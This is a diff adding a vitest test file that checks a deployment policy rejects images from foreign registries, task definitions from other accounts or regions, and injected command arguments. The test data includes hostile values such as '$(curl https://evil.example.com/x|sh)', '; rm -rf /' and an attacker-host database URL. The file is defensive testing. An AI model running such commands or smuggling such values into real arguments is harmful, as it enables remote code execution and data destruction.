@@ -1,0 +1,135 @@
+import { describe, expect, it } from 'vitest';
+import { ctx, decideOn, eventTypes, idleState, only, sample, service, TD, withEvent } from '../support/fixtures.js';
+
+/**
+ * Issue 10, defects 1 and 4: what a deploy-request or run-command may name. Each case here was accepted
+ * (decision "launch") before the request policy existed.
+ */
+
+const REGISTRY = '123456789012.dkr.ecr.eu-west-1.amazonaws.com';
+const DIGEST = `sha256:${'ab'.repeat(32)}`;
+
+const deployImage = (image: string) => decideOn(withEvent(sample('deploy-request'), { detail: { image } }), idleState());
+const runWith = (detail: Record<string, unknown>, overrides: Record<string, string> = {}) =>
+  decideOn(withEvent(sample('run-command'), { detail }), idleState(), ctx(overrides));
+
+describe('images only from REGISTRY/REPOSITORY (defect 1)', () => {
+  it('rejects an image from another registry, saying which registry is allowed', () => {
+    const d = deployImage('evil.example.com/backdoor:latest');
+    expect(d.decision).toBe('reject');
+    expect(d.reason).toContain('evil.example.com/backdoor:latest');
+    expect(d.reason).toContain(`${REGISTRY}/shop-api`);
+    expect(eventTypes(d)).toEqual(['Event Rejected']);
+  });
+
+  it.each([
+    ['another repository of the registry', `${REGISTRY}/other-app:v1`],
+    ['the registry of another account', `210987654321.dkr.ecr.eu-west-1.amazonaws.com/shop-api:v1`],
+    ['the registry in another region', `123456789012.dkr.ecr.us-east-1.amazonaws.com/shop-api:v1`],
+    ['a repository whose name only starts like ours', `${REGISTRY}/shop-api-evil:v1`],
+    ['a path below our repository', `${REGISTRY}/shop-api/evil:v1`],
+    ['no tag and no digest (latest by default)', `${REGISTRY}/shop-api`],
+    ['a malformed digest', `${REGISTRY}/shop-api@sha256:1234`],
+    ['a registry with a user name', `user@${REGISTRY}/shop-api:v1`],
+  ])('rejects %s', (_what, image) => {
+    expect(deployImage(image).decision).toBe('reject');
+  });
+
+  it('accepts the configured repository by tag and by digest, and tag plus digest', () => {
+    for (const image of [`${REGISTRY}/shop-api:v1.5.0`, `${REGISTRY}/shop-api@${DIGEST}`, `${REGISTRY}/shop-api:v1.5.0@${DIGEST}`]) {
+      expect(deployImage(image).decision, image).toBe('launch');
+    }
+  });
+
+  it('rejects a run-command image from another registry', () => {
+    expect(runWith({ image: 'evil.example.com/backdoor:latest' }).decision).toBe('reject');
+  });
+
+  it('follows REGISTRY when it names another registry', () => {
+    const d = decideOn(
+      withEvent(sample('deploy-request'), { detail: { image: 'registry.example.com/shop-api:v2' } }),
+      idleState(),
+      ctx({ REGISTRY: 'registry.example.com' }),
+    );
+    expect(d.decision).toBe('launch');
+  });
+});
+
+describe('the image of an ECR push (defect 3)', () => {
+  it("is built from REGISTRY, not from the event's account and region", () => {
+    const push = withEvent(sample('ecr-push'), { top: { account: '210987654321', region: 'us-east-1' } });
+    const d = decideOn(push, idleState());
+    expect(d.decision).toBe('launch');
+    expect(only(d, 'launchTask').request.image).toMatch(new RegExp(`^${REGISTRY.replaceAll('.', '\\.')}/shop-api@sha256:`));
+  });
+});
+
+describe('a taskDefinitionArn only of the service family, account and region (defect 1)', () => {
+  const request = (taskDefinitionArn: string) =>
+    decideOn(withEvent(sample('deploy-request-task-definition'), { detail: { taskDefinitionArn } }), idleState());
+
+  it('accepts a revision of the service family', () => {
+    expect(request(TD(44)).decision).toBe('launch');
+  });
+
+  it.each([
+    ['another family', 'arn:aws:ecs:eu-west-1:123456789012:task-definition/backdoor:1'],
+    ['another account', 'arn:aws:ecs:eu-west-1:210987654321:task-definition/shop-api:44'],
+    ['another region', 'arn:aws:ecs:us-east-1:123456789012:task-definition/shop-api:44'],
+  ])('rejects %s', (_what, arn) => {
+    const d = request(arn);
+    expect(d.decision).toBe('reject');
+    expect(d.reason).toContain(arn);
+  });
+
+  it('rejects a task definition when the service (and so its family) could not be read', () => {
+    const d = decideOn(sample('deploy-request-task-definition'), idleState({ service: undefined, serviceProblem: 'not found' }));
+    expect(d.decision).toBe('reject');
+  });
+
+  it('checks a run-command taskDefinitionArn the same way', () => {
+    expect(runWith({ taskDefinitionArn: 'arn:aws:ecs:eu-west-1:123456789012:task-definition/backdoor:1' }).decision).toBe('reject');
+    expect(runWith({ taskDefinitionArn: service.taskDefinitionArn }).decision).toBe('launch');
+  });
+});
+
+describe('command arguments (defect 4)', () => {
+  it.each([
+    ['a command substitution', ['db-rollback', '--to', '$(curl https://evil.example.com/x|sh)']],
+    ['a database URL of the attacker', ['db-rollback', '--database-url=postgres://attacker@evil.example.com/db']],
+    ['a shell separator', ['db-rollback', '--to', '1', ';', 'rm', '-rf', '/']],
+    ['a back-quoted command', ['db-seed', '`id`']],
+    ['a newline', ['db-seed', 'a\nb']],
+  ])('rejects %s by default', (_what, command) => {
+    const d = runWith({ command });
+    expect(d.decision).toBe('reject');
+    expect(eventTypes(d)).toEqual(['Event Rejected']);
+  });
+
+  it('accepts plain arguments by default', () => {
+    expect(runWith({ command: ['db-rollback', '--to', '20261101120000'] }).decision).toBe('launch');
+    expect(runWith({ command: ['db-seed', '--count=10', '-v'] }).decision).toBe('launch');
+  });
+
+  it('holds a deploy-request command to the same rules', () => {
+    const d = decideOn(withEvent(sample('deploy-request'), { detail: { command: ['db-migrate', '$(id)'] } }), idleState());
+    expect(d.decision).toBe('reject');
+  });
+
+  it('lets an ALLOWED_COMMANDS entry constrain the arguments', () => {
+    const allowed = { ALLOWED_COMMANDS: 'db-rollback --to *,db-seed' };
+    expect(runWith({ command: ['db-rollback', '--to', '20261101120000'] }, allowed).decision).toBe('launch');
+    expect(runWith({ command: ['db-rollback', '--all'] }, allowed).decision).toBe('reject');
+    expect(runWith({ command: ['db-rollback', '--to', '1', '--force'] }, allowed).decision).toBe('reject');
+    expect(runWith({ command: ['db-rollback'] }, allowed).decision).toBe('reject');
+    // A "*" of a pattern is still held to the conservative character set.
+    expect(runWith({ command: ['db-rollback', '--to', '$(id)'] }, allowed).decision).toBe('reject');
+  });
+
+  it('rejects an argument that looks like a secret instead of storing it, without echoing it', () => {
+    const d = runWith({ command: ['db-seed', '--password=hunter2hunter2'] });
+    expect(d.decision).toBe('reject');
+    expect(JSON.stringify(only(d, 'putEvent'))).not.toContain('hunter2hunter2');
+    expect(d.reason).not.toContain('hunter2hunter2');
+  });
+});
